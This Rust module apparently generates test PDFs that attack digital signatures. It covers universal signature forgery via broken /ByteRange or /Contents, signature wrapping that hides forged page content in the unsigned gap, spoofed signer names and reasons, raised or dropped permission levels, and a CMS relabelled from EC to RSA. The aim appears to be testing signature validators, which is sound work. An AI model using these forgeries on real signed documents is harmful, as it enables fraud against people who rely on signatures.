//! Attacks on the signature itself: universal signature forgery (missing or malformed
//! `/ByteRange` and `/Contents`), signature wrapping, signature dictionary spoofing, and a CMS
//! that declares an algorithm its key cannot have.

use der::{Decode, Encode};
use lopdf::{Dictionary, Object, ObjectId, StringFormat};

use super::{Ctx, FORGED_TEXT, content_stream, forged_appearance, forged_page, signature_fields};
use crate::populations::craft::{self, Base, Extra, Numbers, Section, name, rect};
use crate::populations::document::Doc;
use crate::support::pdf;

/// The victim's first signature: its dictionary's id and content.
fn signature(bytes: &[u8]) -> (ObjectId, Dictionary) {
    let (_, _, id) = signature_fields(bytes).remove(0);
    match craft::object(bytes, id) {
        Object::Dictionary(dict) => (id, dict),
        other => panic!("signature value is {other:?}"),
    }
}

fn byte_range(dict: &Dictionary) -> [u64; 4] {
    let values: Vec<u64> = dict
        .get(b"ByteRange")
        .unwrap()
        .as_array()
        .unwrap()
        .iter()
        .map(|v| u64::try_from(v.as_i64().unwrap()).unwrap())
        .collect();
    [values[0], values[1], values[2], values[3]]
}

/// The signature dictionary written back with its `/Contents` as a hex string.
fn hex_contents(mut dict: Dictionary) -> Dictionary {
    if let Ok(Object::String(bytes, _)) = dict.get(b"Contents").cloned() {
        dict.set("Contents", Object::String(bytes, StringFormat::Hexadecimal));
    }
    dict
}

// Universal signature forgery: an unsigned document with a signature field whose dictionary
// carries a real CMS (copied from a signed document) and a broken /ByteRange or /Contents.

fn usf(ctx: &Ctx, change: fn(&mut Dictionary)) -> Doc {
    let victim = ctx.victim("classic").bytes();
    let (_, real) = signature(&victim);
    let mut dict = hex_contents(real);
    change(&mut dict);
    let mut doc = ctx.workspace.doc(&pdf("classic.pdf"), "usf");
    doc.update(|bytes| {
        let mut numbers = Numbers::after(bytes);
        let (field, value) = (numbers.next(), numbers.next());
        let info = craft::info(bytes);
        let mut widget = Dictionary::new();
        widget.set("Type", name("Annot"));
        widget.set("Subtype", name("Widget"));
        widget.set("FT", name("Sig"));
        widget.set("T", Object::string_literal("Signature1"));
        widget.set("Rect", rect([0.0, 0.0, 0.0, 0.0]));
        widget.set("F", Object::Integer(132));
        widget.set("P", Object::Reference(info.page_id));
        widget.set("V", Object::Reference(value));
        let section = Section::new()
            .set(value, &Object::Dictionary(dict))
            .set(field, &Object::Dictionary(widget));
        let section = craft::add_to_annots(bytes, section, field);
        craft::add_to_fields(bytes, section, field, &mut numbers)
    });
    doc
}

pub fn usf_no_byte_range(ctx: &Ctx, _: &str) -> Doc {
    usf(ctx, |d| {
        d.remove(b"ByteRange");
    })
}

pub fn usf_null_byte_range(ctx: &Ctx, _: &str) -> Doc {
    usf(ctx, |d| d.set("ByteRange", Object::Null))
}

pub fn usf_zero_byte_range(ctx: &Ctx, _: &str) -> Doc {
    usf(ctx, |d| {
        d.set(
            "ByteRange",
            Object::Array(vec![0.into(), 0.into(), 0.into(), 0.into()]),
        )
    })
}

pub fn usf_no_contents(ctx: &Ctx, _: &str) -> Doc {
    usf(ctx, |d| {
        d.remove(b"Contents");
    })
}

pub fn usf_empty_contents(ctx: &Ctx, _: &str) -> Doc {
    usf(ctx, |d| {
        d.set(
            "Contents",
            Object::String(Vec::new(), StringFormat::Hexadecimal),
        )
    })
}

pub fn usf_zero_contents(ctx: &Ctx, _: &str) -> Doc {
    usf(ctx, |d| {
        d.set(
            "Contents",
            Object::String(vec![0; 4096], StringFormat::Hexadecimal),
        )
    })
}

pub fn usf_redefined(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    doc.update(|bytes| {
        let info = craft::info(bytes);
        let (id, dict) = signature(bytes);
        let mut dict = hex_contents(dict);
        dict.remove(b"ByteRange");
        Section::new()
            .set(id, &Object::Dictionary(dict))
            .set(info.contents_id, &content_stream(&forged_page()))
    });
    doc
}

// Signature wrapping.

/// `N 0 obj` with the forged page content, as bytes that may sit inside a literal string.
fn hidden_object(number: u32) -> Vec<u8> {
    let data = forged_page();
    let mut object =
        format!("\n{number} 0 obj\n<< /Length {} >>\nstream\n", data.len()).into_bytes();
    object.extend_from_slice(&data);
    object.extend_from_slice(b"\nendstream\nendobj\n");
    object
}

/// The gap between the signed ranges becomes a literal string holding a forged content object;
/// the update lists that object there and restores the real `/Contents` in a redefined
/// signature dictionary, so every signed byte and the CMS stay as they were.
pub fn swa_moved_contents(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    let bytes = doc.bytes();
    let info = craft::info(&bytes);
    let (id, dict) = signature(&bytes);
    let [_, a, b, _] = byte_range(&dict);
    let (a, b) = (usize::try_from(a).unwrap(), usize::try_from(b).unwrap());
    let base_before = Base::of(&bytes);
    let object = hidden_object(info.contents_id.0);
    let mut gap = b"(".to_vec();
    gap.extend_from_slice(&object);
    assert!(gap.len() < b - a, "gap too small");
    gap.resize(b - a - 1, b' ');
    gap.push(b')');
    doc.rewrite(|mut bytes| {
        bytes.splice(a..b, gap);
        Section::new()
            .set(id, &Object::Dictionary(hex_contents(dict)))
            .extra(Extra::At(info.contents_id.0, a as u64 + 2))
            .append_with(&mut bytes, base_before);
        bytes
    });
    doc
}

/// Injected objects after the `/Contents` hex string (as the value of an extra key), the
/// signature dictionary redefined with a `/ByteRange` whose gap covers them; everything the
/// signature covers is still there, only moved.
pub fn swa_extended_gap(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    let bytes = doc.bytes();
    let info = craft::info(&bytes);
    let (id, dict) = signature(&bytes);
    let [_, a, b, c] = byte_range(&dict);
    let b = usize::try_from(b).unwrap();
    let mut base_before = Base::of(&bytes);
    let object = hidden_object(info.contents_id.0);
    let mut inject = b" /X (".to_vec();
    let object_at = b + inject.len() + 1;
    inject.extend_from_slice(&object);
    inject.push(b')');
    let shift = inject.len();
    // Objects of the signed revision after the gap move by `shift`; list them again.
    let moved: Vec<(u32, u64)> = headers(&bytes[b..])
        .into_iter()
        .map(|(number, at)| (number, (b + at + shift) as u64))
        .collect();
    base_before.startxref += shift as u64;
    let mut dict = hex_contents(dict);
    dict.set(
        "ByteRange",
        Object::Array(vec![
            0.into(),
            Object::Integer(a as i64),
            Object::Integer((b + shift) as i64),
            Object::Integer(c as i64),
        ]),
    );
    doc.rewrite(|mut bytes| {
        bytes.splice(b..b, inject);
        let mut section = Section::new()
            .set(id, &Object::Dictionary(dict))
            .extra(Extra::At(info.contents_id.0, object_at as u64));
        for (number, at) in moved {
            if number != id.0 {
                section = section.extra(Extra::At(number, at));
            }
        }
        section.append_with(&mut bytes, base_before);
        bytes
    });
    doc
}

/// `(number, offset)` of every `N G obj` header at a line start in `bytes`.
fn headers(bytes: &[u8]) -> Vec<(u32, usize)> {
    let mut found = Vec::new();
    for (at, window) in bytes.windows(4).enumerate() {
        if window != b" obj" {
            continue;
        }
        let line = bytes[..at]
            .iter()
            .rposition(|c| *c == b'\n')
            .map_or(0, |p| p + 1);
        let head = String::from_utf8_lossy(&bytes[line..at]).into_owned();
        let parts: Vec<&str> = head.split(' ').collect();
        if let [number, generation] = parts.as_slice()
            && let (Ok(number), Ok(_)) = (number.parse::<u32>(), generation.parse::<u16>())
        {
            found.push((number, line));
        }
    }
    found
}

// Signature dictionary spoofing.

pub fn spoof_rewritten(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    doc.update(|bytes| {
        let (id, dict) = signature(bytes);
        let mut dict = hex_contents(dict);
        dict.set("M", Object::string_literal("D:20200101120000Z"));
        dict.set("Name", Object::string_literal("Mallory"));
        dict.set("Reason", Object::string_literal("Genehmigt: 1.000.000 EUR"));
        Section::new().set(id, &Object::Dictionary(dict))
    });
    doc
}

pub fn spoof_repointed(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    doc.update(|bytes| {
        let (field, mut widget, id) = signature_fields(bytes).remove(0);
        let Object::Dictionary(dict) = craft::object(bytes, id) else {
            panic!("no signature dictionary");
        };
        let mut copy = hex_contents(dict);
        copy.set("Reason", Object::string_literal(FORGED_TEXT));
        let new = Numbers::after(bytes).next();
        widget.set("V", Object::Reference(new));
        Section::new()
            .set(new, &Object::Dictionary(copy))
            .set(field, &Object::Dictionary(widget))
    });
    doc
}

pub fn spoof_raise_level(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    doc.update(|bytes| {
        let (id, dict) = signature(bytes);
        let mut dict = hex_contents(dict);
        let mut references = dict.get(b"Reference").unwrap().as_array().unwrap().clone();
        if let Object::Dictionary(reference) = &mut references[0]
            && let Ok(Object::Dictionary(params)) = reference.get_mut(b"TransformParams")
        {
            params.set("P", Object::Integer(3));
        }
        dict.set("Reference", Object::Array(references));
        Section::new().set(id, &Object::Dictionary(dict))
    });
    super::add_annotation(
        &mut doc,
        "FreeText",
        forged_appearance(super::OVER_TEXT),
        |a| {
            a.set("Contents", Object::string_literal(FORGED_TEXT));
            a.set("DA", Object::string_literal("/Helv 14 Tf 0 g"));
        },
    );
    doc
}

pub fn spoof_drop_perms(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    doc.update(|bytes| {
        let info = craft::info(bytes);
        let mut catalog = info.catalog.clone();
        catalog.remove(b"Perms");
        Section::new()
            .set(info.catalog_id, &Object::Dictionary(catalog))
            .set(info.contents_id, &content_stream(&forged_page()))
    });
    doc
}

// The declared algorithm.

/// The victim's EC signature re-encoded with `rsaEncryption` as its SignerInfo's signature
/// algorithm, written into the same `/Contents` gap; no signed byte changes.
pub fn rsa_declared_ec_key(ctx: &Ctx, base: &str) -> Doc {
    let mut doc = ctx.victim(base);
    let bytes = doc.bytes();
    let (_, dict) = signature(&bytes);
    let [_, a, b, _] = byte_range(&dict);
    let Ok(Object::String(contents, _)) = dict.get(b"Contents") else {
        panic!("no /Contents");
    };
    let der = der_prefix(contents);
    let mut info = cms::content_info::ContentInfo::from_der(der).unwrap();
    let mut signed: cms::signed_data::SignedData = info.content.decode_as().unwrap();
    let mut signers: Vec<cms::signed_data::SignerInfo> = signed.signer_infos.0.into_vec();
    signers[0].signature_algorithm = spki::AlgorithmIdentifierOwned {
        oid: const_oid::db::rfc5912::RSA_ENCRYPTION,
        parameters: Some(der::Any::null()),
    };
    signed.signer_infos = cms::signed_data::SignerInfos::try_from(signers).unwrap();
    info.content = der::Any::encode_from(&signed).unwrap();
    let encoded = info.to_der().unwrap();
    let (a, b) = (usize::try_from(a).unwrap(), usize::try_from(b).unwrap());
    let mut hex: Vec<u8> = encoded
        .iter()
        .flat_map(|byte| format!("{byte:02X}").into_bytes())
        .collect();
    assert!(hex.len() + 2 <= b - a, "re-encoded CMS does not fit");
    hex.resize(b - a - 2, b'0');
    doc.rewrite(|mut bytes| {
        bytes[a + 1..b - 1].copy_from_slice(&hex);
        bytes
    });
    doc
}

/// The DER object at the start of zero-padded `/Contents`.
fn der_prefix(contents: &[u8]) -> &[u8] {
    use der::Reader;
    let mut reader = der::SliceReader::new(contents).unwrap();
    let header = der::Header::decode(&mut reader).unwrap();
    let end = reader.position() + header.length();
    &contents[..usize::try_from(end.unwrap()).unwrap()]
}
